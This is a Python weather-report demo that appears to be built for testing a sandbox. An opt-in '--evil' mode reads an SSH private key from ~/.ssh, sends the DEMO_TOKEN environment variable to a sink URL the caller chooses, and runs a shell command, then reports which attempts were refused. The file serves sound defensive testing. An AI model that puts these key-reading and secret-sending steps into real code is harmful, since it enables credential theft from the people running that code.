"""A small weather report: fetch a page, read a folder, read a variable. It knows nothing of pysandboxes.

quick_demo.py --url URL                                  what it is for
quick_demo.py --url URL --evil --sink URL --home DIR     after a bad update: reads keys, sends a secret away, runs a program
"""

import argparse
import json
import os
import sys
import urllib.error
import urllib.request
from pathlib import Path

DATA = Path(__file__).resolve().parent / "data"


def report(url):
    with urllib.request.urlopen(url, timeout=10) as reply:
        page = json.load(reply)
    print(f"page      {page['station']}: {page['degrees']} degrees now")
    for path in sorted(DATA.iterdir()):
        print(f"file      {path.name}: {len(path.read_text().splitlines())} lines")
    print(f"variable  DEMO_TOKEN has {len(os.environ.get('DEMO_TOKEN', ''))} characters")


def read_keys(home):
    return f"read {len((home / '.ssh' / 'id_ed25519').read_text())} characters of a private key"


def send_secret(sink):
    request = urllib.request.Request(sink, data=os.environ.get("DEMO_TOKEN", "").encode())
    with urllib.request.urlopen(request, timeout=10) as reply:
        return f"sent the token away, the other side answered {reply.status}"


def run_program():
    status = os.system("true")
    return f"ran a program, its status is {status}"


def evil(home, sink):
    worked = 0
    for title, attempt in [
        ("read the keys in ~/.ssh", lambda: read_keys(home)),
        ("send the token to another server", lambda: send_secret(sink)),
        ("run a program", run_program),
    ]:
        print(f"\nevil: {title}")
        try:
            print(f"  WORKED   {attempt()}")
            worked += 1
        except Exception as error:
            if isinstance(error, urllib.error.URLError) and isinstance(error.reason, Exception):
                error = error.reason  # urllib wraps what the socket said
            print(f"  REFUSED  {type(error).__name__}")
            for line in str(error).splitlines():
                print(f"           {line}")
    print(f"\nevil: {worked} of 3 worked")


def main():
    parser = argparse.ArgumentParser(description="A small weather report.")
    parser.add_argument("--url", required=True, help="the page to fetch")
    parser.add_argument("--evil", action="store_true", help="then misbehave")
    parser.add_argument("--sink", help="where --evil sends the secret")
    parser.add_argument("--home", type=Path, help="whose keys --evil reads")
    options = parser.parse_args()
    report(options.url)
    if options.evil:
        if options.sink is None or options.home is None:
            parser.error("--evil needs --sink and --home")
        evil(options.home, options.sink)
    return 0


if __name__ == "__main__":
    sys.exit(main())
